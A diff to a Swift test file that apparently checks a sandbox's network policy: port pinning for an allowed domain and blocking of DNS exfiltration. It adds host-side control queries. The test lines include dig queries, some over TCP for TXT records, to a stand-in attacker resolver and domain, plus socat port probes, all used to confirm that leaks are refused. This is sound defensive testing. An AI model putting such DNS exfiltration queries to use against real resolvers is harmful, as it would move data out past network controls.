@@ -209,13 +209,21 @@ import CagentCore
         #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80/").status != 0)
         #expect(dig(lab, "+short www.allowed.test").contains("203.0.113.80"))
         #expect(lab.inSandbox("curl -s -m 3 http://www.allowed.test/").output.contains("hello"))
-        // Pinned for tcp/80 and tcp/443 only (a domains: entry), not for other ports.
-        #expect(lab.inSandbox("curl -s -m 2 http://203.0.113.80:8080/").status != 0)
-        // Exfiltration through any resolver goes nowhere; the host-side control reaches the attacker.
+        // Pinned for tcp/80 and tcp/443 only (a domains: entry), not for other ports. Control: a listener
+        // at 8080 answers the same probe from the host.
+        try lab.startListener(address: "203.0.113.80", port: 8080)
+        let probe8080 = "socat -u TCP:203.0.113.80:8080,connect-timeout=2 -"
+        #expect(lab.inHost(probe8080).output == "open-8080\n", "control: nothing answers at 8080")
+        let other = lab.inSandbox(probe8080)
+        #expect(other.status != 0 && !other.output.contains("open-8080"), "\(other)")
+        // Exfiltration through any resolver goes nowhere; the host-side controls (UDP A, TCP TXT) reach the attacker.
         #expect(lab.inHost("dig +short +time=2 +tries=1 @203.0.113.66 control.attacker.test").output.contains("203.0.113.99"))
+        #expect(lab.inHost("dig +tcp +time=2 +tries=1 @203.0.113.66 TXT control-tcp-txt.attacker.test").output.contains("->>HEADER<<-"))
+        #expect(lab.queries("attacker.log", " control.attacker.test ").count == 1 && lab.queries("attacker.log", " control-tcp-txt.attacker.test ").count == 1,
+                "the controls did not reach the attacker")
         _ = dig(lab, "@203.0.113.66 s1.attacker.test")
         _ = dig(lab, "+tcp @203.0.113.66 TXT s2.attacker.test")
-        let leaks = lab.queries("attacker.log", "attacker.test").filter { !$0.contains(" ready.attacker.test ") && !$0.contains(" control.attacker.test ") }
+        let leaks = lab.queries("attacker.log", "attacker.test").filter { !$0.contains(" ready.attacker.test ") && !$0.contains(" control") }
         #expect(leaks.isEmpty, "\(leaks)")
         #expect(lines(lab, "cagent: refused DNS s1.attacker.test (not in profile)").count == 1, "\(lab.reported)")
         #expect(lines(lab, "cagent: blocked tcp 203.0.113.80:8080 (www.allowed.test)").count == 1, "\(lab.reported)")
